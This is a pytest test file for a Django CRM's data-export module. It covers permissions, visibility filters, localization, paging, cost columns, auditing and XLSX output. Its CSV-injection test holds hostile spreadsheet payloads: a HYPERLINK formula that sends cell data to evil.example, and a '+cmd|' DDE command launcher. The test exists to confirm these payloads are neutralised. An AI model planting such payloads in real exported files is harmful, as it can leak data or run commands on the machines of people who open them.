"""Exports through the one common path: the list's own filters and visibility, permission, cost
columns, CSV injection, headers in the user's language, reading in pages, audit, XLSX sheets."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
import python_calamine
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.http import Http404
from django.test.utils import CaptureQueriesContext

from tradecrm.audit.models import AuditEvent
from tradecrm.catalog import spreadsheets
from tradecrm.catalog.models import Product
from tradecrm.customers.models import Company, Tag
from tradecrm.customers.services import contact_create, tag_create
from tradecrm.reports import exports as ex

pytestmark = pytest.mark.django_db


def run(actor, entity, fmt="csv", **params):
    export = ex.export_prepare(actor=actor, entity=entity, fmt=fmt, params=params, via="test")
    return export, b"".join(export.chunks())


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with the UTF-8 BOM"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))


def sheet_of(data: bytes, index: int = 0) -> list[list]:
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_index(index).to_python()


def by_header(table: list[list], header: str) -> list:
    i = table[0].index(header)
    return [row[i] for row in table[1:]]


# --- who may export ---------------------------------------------------------------------------------


def test_sales_rep_needs_the_permission(alice, acme):
    with pytest.raises(PermissionDenied):
        ex.export_prepare(actor=alice, entity="companies", fmt="csv", params={})
    assert not AuditEvent.objects.filter(action="export").exists()


def test_manager_and_allowed_rep_may_export(carol, exporter, acme):
    for user in (carol, exporter):
        _export, data = run(user, "companies")
        assert by_header(rows_of(data), "Company name") == ["Acme Imports LLC"]


# --- the list's visibility and filters --------------------------------------------------------------


def test_companies_follow_visibility_and_filters(exporter, dave, carol, make_company, acme):
    make_company(actor=dave, name="West Only GmbH", country="DE")
    make_company(name="Berlin Buyers GmbH", country="DE", status="prospect", source="trade_show")
    vip = tag_create(actor=exporter, data={"name": "VIP"})
    make_company(name="Tagged Trading", country="FR", tags=[vip.pk])

    _e, data = run(exporter, "companies")
    assert sorted(by_header(rows_of(data), "Company name")) == [
        "Acme Imports LLC",
        "Berlin Buyers GmbH",
        "Tagged Trading",
    ]
    _e, data = run(carol, "companies", country="DE")  # carol sees East, not dave's West
    assert by_header(rows_of(data), "Company name") == ["Berlin Buyers GmbH"]
    _e, data = run(exporter, "companies", country="de", status="prospect", source="trade_show")
    table = rows_of(data)
    assert by_header(table, "Company name") == ["Berlin Buyers GmbH"]
    assert by_header(table, "Country") == ["Germany"]  # names, as the page shows them
    assert by_header(table, "Lifecycle status") == ["Prospect"]
    assert by_header(table, "Source") == ["Trade show"]
    _e, data = run(exporter, "companies", tag="vip")  # a tag by name (or id)
    table = rows_of(data)
    assert by_header(table, "Company name") == ["Tagged Trading"]
    assert by_header(table, "Tags") == ["VIP"]
    _e, data = run(exporter, "companies", q="berlin")
    assert by_header(rows_of(data), "Company name") == ["Berlin Buyers GmbH"]
    _e, data = run(exporter, "companies", owner="alice")
    assert len(rows_of(data)) == 4


def test_bad_filter_values_are_refused_with_the_parameter_named(exporter):
    with pytest.raises(ValidationError) as err:
        ex.export_prepare(
            actor=exporter, entity="companies", fmt="csv",
            params={"country": "Germany!", "status": "vip", "owner": "nobody", "tag": "none", "business_type": ""},
        )  # fmt: skip
    assert set(err.value.message_dict) == {"country", "status", "owner", "tag"}
    assert "There is no user “nobody”." in err.value.message_dict["owner"]
    with pytest.raises(ValidationError) as err:
        ex.export_prepare(actor=exporter, entity="orders", fmt="pdf", params={})
    assert "format" in err.value.message_dict
    with pytest.raises(ValidationError) as err:
        ex.export_prepare(actor=exporter, entity="orders", fmt="csv", params={"date_from": "5 March"})
    assert err.value.message_dict == {"date_from": ["Enter a date as YYYY-MM-DD."]}
    with pytest.raises(ValidationError) as err:
        ex.export_prepare(actor=exporter, entity="secrets", fmt="csv", params={})
    assert "entity" in err.value.message_dict


def test_contacts_of_a_customer_dave_cannot_see_is_404(exporter, dave, acme):
    contact_create(actor=exporter, company=acme, data={"first_name": "John", "last_name": "Doe",
                                                        "emails": ["john@acme-imports.com"]})  # fmt: skip
    dave.can_export = True
    dave.save(update_fields=["can_export"])
    with pytest.raises(Http404):  # before the first byte
        ex.export_prepare(actor=dave, entity="contacts", fmt="csv", params={"company": str(acme.pk)})
    with pytest.raises(Http404):
        ex.export_prepare(actor=dave, entity="inquiries", fmt="csv", params={"company": str(acme.pk)})
    _e, data = run(exporter, "contacts", company=str(acme.pk))
    table = rows_of(data)
    assert table[0][:3] == ["ID", "Company ID", "Company"]
    assert by_header(table, "Emails") == ["john@acme-imports.com"]
    _e, data = run(dave, "contacts")
    assert len(rows_of(data)) == 1  # the header only


# --- cells ------------------------------------------------------------------------------------------


PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_injection_is_neutralised(exporter, make_company):
    company = make_company(name=PAYLOAD, city="@SUM(1+1)", address="-2+3", main_products="+cmd|' /C calc'!A0")
    Company.objects.filter(pk=company.pk).update(notes="\tcmd", source_detail="\r=1+1")  # not via a form
    _e, data = run(exporter, "companies")
    table = rows_of(data)
    assert by_header(table, "Company name") == ["'" + PAYLOAD]
    assert by_header(table, "City") == ["'@SUM(1+1)"]
    assert by_header(table, "Address") == ["'-2+3"]
    assert by_header(table, "Main products") == ["'+cmd|' /C calc'!A0"]
    assert by_header(table, "Notes") == ["'\tcmd"]
    assert by_header(table, "Source detail") == ["'\r=1+1"]


def test_xlsx_keeps_the_text_and_never_writes_a_formula(exporter, make_company):
    make_company(name=PAYLOAD, city="Köln", phones=["+4922112345"], cooperation_since="2024-03-05")
    _e, data = run(exporter, "companies", fmt="xlsx")
    table = sheet_of(data)
    assert by_header(table, "Company name") == [PAYLOAD]  # intact: round trips
    assert by_header(table, "Phones") == ["+4922112345"]
    assert str(by_header(table, "Cooperating since")[0]).startswith("2024-03-05")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert 'quotePrefix="1"' in styles  # Excel keeps it text even when the cell is edited


def test_headers_and_values_in_the_users_language(exporter, make_company):
    exporter.language = "zh-hans"
    exporter.save(update_fields=["language"])
    make_company(name="Acme", country="DE", status="prospect")
    export, data = run(exporter, "companies")
    table = rows_of(data)
    assert table[0][0] == "ID"
    assert "公司名称" in table[0]
    assert by_header(table, "国家") == ["德国"]


def test_xlsx_numbers_dates_and_more_sheets(exporter, make_company, monkeypatch):
    for i in range(5):
        make_company(name=f"Company {i}")
    monkeypatch.setattr(ex, "XLSX_SHEET_ROWS", 3)  # a header and 2 rows per sheet
    _e, data = run(exporter, "companies", fmt="xlsx")
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert len(book.sheet_names) == 3
    names = [r[1] for i in range(3) for r in book.get_sheet_by_index(i).to_python()[1:]]
    assert names == [f"Company {i}" for i in range(5)]
    assert isinstance(sheet_of(data)[1][0], float | int)  # the ID is a number


# --- reading in pages ------------------------------------------------------------------------------


def test_reads_in_keyset_pages_not_the_whole_list(exporter, make_company):
    for i in range(5):
        make_company(name=f"Company {i}")
    with CaptureQueriesContext(connection) as q:
        export = ex.export_prepare(actor=exporter, entity="companies", fmt="csv", params={}, page_size=2)
        data = b"".join(export.chunks())
    pages = [
        s["sql"]
        for s in q.captured_queries
        if 'FROM "customers_company"' in s["sql"] and "LIMIT 2" in s["sql"]
    ]
    assert len(pages) == 3  # 2 + 2 + 1 rows; the short page ends it
    assert all('"customers_company"."id" >' in sql for sql in pages[1:])
    assert len(rows_of(data)) == 6
    assert export.rows == 5


def test_list_selectors_are_followed_page_by_page(carol, make_order, monkeypatch):
    from tradecrm.orders import selectors as order_selectors

    for _ in range(3):
        make_order()
    calls = []
    real = order_selectors.order_list

    def spy(user, f, *, cursor=None, limit=50):
        calls.append(cursor)
        return real(user, f, cursor=cursor, limit=limit)

    monkeypatch.setattr(order_selectors, "order_list", spy)
    export = ex.export_prepare(actor=carol, entity="orders", fmt="csv", params={}, page_size=2)
    table = rows_of(b"".join(export.chunks()))
    assert len(table) == 4 and len(calls) == 2 and calls[0] is None and calls[1]


# --- costs, products, other lists ------------------------------------------------------------------


def test_products_use_the_catalogue_columns_and_import_back_unchanged(carol, exporter):
    from tradecrm.catalog.services import product_create

    product_create(actor=carol, data={"sku": "MUG-350", "name_en": "Ceramic mug", "name_zh": "陶瓷杯",
                                      "carton_length_cm": "50", "carton_width_cm": "40", "carton_height_cm": "30",
                                      "purchase_cost_cny": "6.50", "supplier": "Chaozhou Ceramics"})  # fmt: skip
    product_create(actor=carol, data={"sku": "PLT-27", "name_en": "Dinner plate", "units_per_carton": 24})
    product_create(actor=carol, data={"sku": "OLD-1", "name_en": "Old mug", "active": False})
    _e, data = run(carol, "products", fmt="xlsx")
    table = sheet_of(data)
    assert table[0][:3] == ["ID", "SKU", "Name (English)"]
    assert "Purchase cost (CNY)" in table[0]
    assert by_header(table, "SKU") == ["MUG-350", "PLT-27"]  # active only, like the list page
    result = spreadsheets.products_import(actor=carol, file=data, filename="products.xlsx")
    assert result.ok and (result.created, result.updated, result.unchanged) == (0, 0, 2)
    _e, data = run(exporter, "products", active="all")
    table = rows_of(data)
    assert "Purchase cost (CNY)" not in table[0] and "Supplier" not in table[0]
    assert by_header(table, "SKU") == ["MUG-350", "OLD-1", "PLT-27"]
    assert by_header(table, "Active") == ["yes", "no", "yes"]


def test_orders_with_filters_and_cost_columns(carol, exporter, make_order, mug):
    order = make_order()
    Product.objects.filter(pk=mug.pk).update(purchase_cost_cny=Decimal("6.50"))
    _e, data = run(carol, "orders", status=order.status, owner="alice")
    table = rows_of(data)
    assert by_header(table, "Number") == [order.number]
    assert by_header(table, "Total") == ["4500"]
    assert by_header(table, "Open amount") == ["4500"]
    assert "Cost (CNY)" in table[0]
    _e, data = run(exporter, "orders", owner="me")
    table = rows_of(data)
    assert by_header(table, "Customer") == ["Acme Imports LLC"]
    assert "Cost (CNY)" not in table[0]
    _e, data = run(exporter, "orders", date_from="2030-01-01")
    assert len(rows_of(data)) == 1


def test_inquiries_opportunities_and_documents(exporter, acme, make_proforma):
    from tradecrm.sales.models import Pipeline
    from tradecrm.sales.services import inquiry_create, opportunity_create

    inquiry_create(actor=exporter, data={"channel": "alibaba", "buyer_name": "John", "buyer_country": "DE",
                                         "subject": "LED panels", "items": []})  # fmt: skip
    pipeline = Pipeline.objects.get(is_default=True)
    opportunity_create(actor=exporter, data={"name": "Chicago warehouse", "amount": "10000", "currency": "USD",
                                             "company": acme.pk, "pipeline": pipeline.pk})  # fmt: skip
    pi = make_proforma()
    _e, data = run(exporter, "inquiries", channel="alibaba", unlinked="1")
    table = rows_of(data)
    assert by_header(table, "Subject") == ["LED panels"]
    assert by_header(table, "Buyer's country") == ["Germany"]
    _e, data = run(exporter, "opportunities", status="open")
    table = rows_of(data)
    assert by_header(table, "Name") == ["Chicago warehouse"]
    assert by_header(table, "Stage")[0]
    _e, data = run(exporter, "proformas", q=pi.number[:6])
    assert by_header(rows_of(data), "Number") == [pi.number]
    _e, data = run(exporter, "quotations")
    assert len(rows_of(data)) == 1


# --- audit -----------------------------------------------------------------------------------------


def test_each_export_is_audited_with_filters_and_rows(exporter, acme):
    run(exporter, "companies", country="US", sort="name")
    event = AuditEvent.objects.get(action="export")
    assert event.actor == exporter
    assert event.object_type == "customers.company"
    assert event.changes == {"entity": "companies", "format": "csv", "filters": {"country": "US"}, "rows": 1,
                             "complete": True, "via": "test"}  # fmt: skip


def test_a_download_cut_off_is_audited_as_incomplete(exporter, make_company):
    for i in range(3):
        make_company(name=f"Company {i}")
    export = ex.export_prepare(actor=exporter, entity="companies", fmt="csv", params={}, page_size=1)
    export_module_chunk = ex.CHUNK_BYTES
    try:
        ex.CHUNK_BYTES = 1  # a piece per page
        stream = export.chunks()
        next(stream)
        stream.close()
    finally:
        ex.CHUNK_BYTES = export_module_chunk
    event = AuditEvent.objects.get(action="export")
    assert event.changes["complete"] is False and event.changes["rows"] < 3


def test_tags_of_another_team_are_not_found_by_name(exporter, dave):
    Tag.objects.create(name="Westerners", team=dave.team)
    with pytest.raises(ValidationError) as err:
        ex.export_prepare(actor=exporter, entity="companies", fmt="csv", params={"tag": "Westerners"})
    assert "tag" in err.value.message_dict


def test_customs_records_through_the_customs_filters(exporter, carol, acme):
    import datetime as dt

    from tradecrm.customs.models import CustomsRecord

    def record(n, company, hs, day):
        return CustomsRecord.objects.create(
            company=company, importer_name=f"Importer {n}", hs_code=hs, date=dt.date(2025, 1, day),
            exporter_name="Ningbo Hengda", value=Decimal("1000.50"), fingerprint=f"fp{n}",
        )  # fmt: skip

    record(1, acme, "847130", 5)
    record(2, acme, "940540", 6)
    record(3, None, "847130", 7)  # unlinked: market data, managers only
    _e, data = run(exporter, "customs")
    assert sorted(by_header(rows_of(data), "Importer / consignee")) == ["Importer 1", "Importer 2"]
    _e, data = run(carol, "customs", hs="8471")
    table = rows_of(data)
    assert by_header(table, "Importer / consignee") == ["Importer 1", "Importer 3"]
    assert by_header(table, "Value") == ["1000.5", "1000.5"]
    assert by_header(table, "Customer") == ["Acme Imports LLC", ""]
    with pytest.raises(ValidationError) as err:
        ex.export_prepare(actor=carol, entity="customs", fmt="csv", params={"hs": "abc", "date_to": "x"})
    assert set(err.value.message_dict) == {"hs", "date_to"}
